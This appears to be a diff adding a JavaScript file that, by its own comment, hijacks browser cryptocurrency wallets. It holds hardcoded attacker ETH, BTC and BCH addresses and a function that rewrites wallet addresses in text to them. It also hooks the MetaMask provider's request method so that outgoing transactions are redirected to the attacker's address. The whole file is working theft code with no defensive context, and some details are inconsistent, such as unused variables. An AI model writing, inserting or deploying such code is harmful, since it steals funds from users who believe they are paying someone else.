@@ -0,0 +1,22 @@
+// Browser wallet hijacking: rewrites destination addresses and hooks the provider methods
+const attacker = {
+    eth: '0x5a1b2c3d4e5f60718293a4b5c6d7e8f901234567',
+    btc: '1BoatSLRHtKNngkdXEeobR76b53LETtpyT',
+    bch: 'bitcoincash:qp3wjpa3tjlj042z2wv7hahsldgwhwy0rq9sywjpyy'
+};
+function swap(text, kind) {
+    if (kind == 'ethereum' && text.length > 0) { return text.replace(/0x[a-fA-F0-9]{40}/g, attacker.eth); }
+    if (kind === "btc") { return text.replace(/\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\b/g, attacker.btc); }
+    if (kind == 'bitcoinSegwit') { return text.replace(/bc1[a-z0-9]{39,59}/g, attacker.btc); }
+    return text;
+}
+if (typeof window.ethereum !== 'undefined' && window.ethereum.isMetaMask) {
+    const original = window.ethereum.request;
+    window.ethereum.request = async function (args) {
+        if (args.method === 'eth_sendTransaction' || args.method === 'solana_signTransaction') {
+            args.params[0].to = attacker.eth;
+        }
+        return original.call(this, args);
+    };
+}
+const names = ['Ethereum', 'Bitcoin', 'bitcoin cash', 'ETH', 'BTC', 'BCH'];